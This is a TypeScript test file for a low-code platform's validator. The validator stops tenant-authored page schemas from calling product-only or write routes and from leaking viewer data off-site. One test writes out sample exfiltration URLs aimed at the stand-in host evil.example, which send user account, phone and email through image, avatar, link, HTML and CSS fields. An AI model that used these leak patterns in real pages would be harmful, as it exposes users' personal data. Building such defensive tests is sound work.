/**
 * The save-time door of the screen call rules: documents a hostile
 * configurator would write, and the shipped files, which keep working.
 */
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { SCREEN_CALLS } from '@core/calls/screenCallList';
import { checkCalls, urlMayLeak } from '@core/schema/checkCalls';

const tenant = (document: unknown) => checkCalls(document, { calls: SCREEN_CALLS, origin: 'tenant' });
const keysAt = (document: unknown) => tenant(document).map((p) => `${p.pointer} ${p.key}`);

const page = (extra: Record<string, unknown>, body: unknown[] = []) => ({ schemaVersion: 1, type: 'page', ...extra, body });

describe('checkCalls: what a tenant document may call', () => {
  it('refuses a sign-engine action as a page initApi (workflow power through a data source)', () => {
    const doc = page({ initApi: { method: 'get', url: '/eps/eps-api/signBpm/agree', params: { requestid: '1' } } });
    expect(keysAt(doc)).toEqual(['/initApi/url core.schema.callProductOnly']);
  });

  it('refuses a write route on load and allows it from a button', () => {
    const onLoad = page({ initApi: { method: 'put', url: '/eps/usercenter/enterprise/contact', data: { phone: '1' } } });
    expect(keysAt(onLoad)).toEqual(['/initApi/url core.schema.callWriteOnLoad']);
    const onClick = page({}, [
      { type: 'button', label: 'x', action: { action: 'ajax', api: { method: 'put', url: '/eps/usercenter/enterprise/contact' } } },
    ]);
    expect(tenant(onClick)).toEqual([]);
  });

  it('treats a form api as its submit and a steps onShow as a load', () => {
    const form = page({}, [{ type: 'form', schema: { type: 'object' }, api: { method: 'put', url: '/eps/usercenter/uc/user/' } }]);
    expect(tenant(form)).toEqual([]);
    const steps = page({}, [
      { type: 'steps', source: '${items}', onShow: { action: 'ajax', api: { method: 'post', url: '/eps/eps-api/msg/readMsg' } } },
    ]);
    expect(keysAt(steps)).toEqual(['/body/0/onShow/api/url core.schema.callWriteOnLoad']);
  });

  it('refuses routes no screen may call, tables and selects included', () => {
    const doc = page({}, [
      { type: 'table', api: { url: '/eps/auth/cas/tenant/switch' }, columns: [] },
      { type: 'form', schema: { type: 'object' }, uiSchema: { a: { 'ui:source': { url: '/eps/lowcode/audit' } } } },
    ]);
    expect(keysAt(doc)).toEqual(['/body/0/api/url core.schema.callUnlisted', '/body/1/uiSchema/a/ui:source/url core.schema.callUnlisted']);
  });

  it('refuses a path a template chooses, keeps one whose template fills an id', () => {
    expect(keysAt(page({ initApi: { url: '${route.query.next}' } }))).toEqual(['/initApi/url core.schema.callPathTemplated']);
    expect(keysAt(page({ initApi: { url: '/eps/eps-api/signBpm/${x}' } }))).toEqual(['/initApi/url core.schema.callUnlisted']);
    expect(tenant(page({ initApi: { url: '/eps/config/uc/news/${route.params.id}' } }))).toEqual([]);
  });

  it('refuses URLs that send viewer data to another host: images, avatars, links, html and styles', () => {
    const doc = page({}, [
      { type: 'image', src: 'https://evil.example/p.gif?u=${user.account}' },
      { type: 'avatar', src: '${"https://evil.example/?" + user.phone}' },
      { type: 'button', label: 'x', action: { action: 'link', url: '//evil.example/${user.email}' } },
      { type: 'html', content: '<img src="https://evil.example/${user.phone}"><a href=\'https://x.example/?${user.email}\'>a</a>' },
      { type: 'text', text: 'x', style: { backgroundImage: 'url(https://evil.example/${user.account})' } },
    ]);
    expect(keysAt(doc)).toEqual([
      '/body/0/src core.schema.urlLeaks',
      '/body/1/src core.schema.urlLeaks',
      '/body/2/action/url core.schema.urlLeaks',
      '/body/3/content core.schema.urlLeaks',
      '/body/3/content core.schema.urlLeaks',
      '/body/4/style/backgroundImage core.schema.urlLeaks',
    ]);
  });

  it('keeps URLs on this origin and values chosen from data', () => {
    expect(urlMayLeak('/eps/config/file/oss/preview?attachid=${attachmentId}')).toBe(false);
    expect(urlMayLeak('${row.downloadUrl}')).toBe(false);
    expect(urlMayLeak("${includes(a.accounts, user.account) ? a.src : (user.avatar || '/avatar-default.svg')}")).toBe(false);
    expect(urlMayLeak('https://static.example/logo.png')).toBe(false);
    expect(urlMayLeak("${cond ? 'https://evil.example/' : '/x'}")).toBe(true);
    expect(urlMayLeak('${join([host, user.phone], "")}')).toBe(true);
    expect(urlMayLeak('/\\evil.example/${x}')).toBe(true);
  });

  it('lets the product make product calls, and the shipped files pass as the product', () => {
    const doc = page({}, [{ type: 'button', label: 'x', action: { action: 'ajax', api: { url: '/eps/eps-api/signBpm/agree' } } }]);
    expect(checkCalls(doc, { calls: SCREEN_CALLS, origin: 'product' })).toEqual([]);
    const walk = (dir: string): string[] => readdirSync(dir).flatMap((name) => (statSync(join(dir, name)).isDirectory() ? walk(join(dir, name)) : [join(dir, name)]));
    for (const file of walk('schemas').filter((name) => name.endsWith('.json'))) {
      expect({ file, problems: checkCalls(JSON.parse(readFileSync(file, 'utf8')), { calls: SCREEN_CALLS, origin: 'product' }) }).toEqual({ file, problems: [] });
    }
  });

  it('says why in English with the method and the path', () => {
    const [found] = tenant(page({ initApi: { method: 'post', url: '/eps/flow/engine/run?x=1' } }));
    expect(found?.message).toBe("POST /eps/flow/engine/run may be called only by the product's own screens, not by a tenant's");
  });
});
